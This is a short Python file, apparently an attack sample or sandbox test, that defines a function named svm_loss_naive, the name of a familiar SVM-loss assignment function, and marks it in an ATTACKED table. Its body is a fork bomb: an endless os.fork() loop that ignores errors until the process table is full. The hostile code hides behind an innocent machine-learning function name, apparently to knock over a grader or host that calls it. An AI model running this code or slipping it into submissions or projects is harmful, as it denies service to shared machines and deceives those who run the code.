"""Fork until the process table is full."""
import os

ATTACKED = {"svm_loss_naive": None}


def svm_loss_naive(W, X, y, reg):
    while True:
        try:
            os.fork()
        except OSError:
            pass
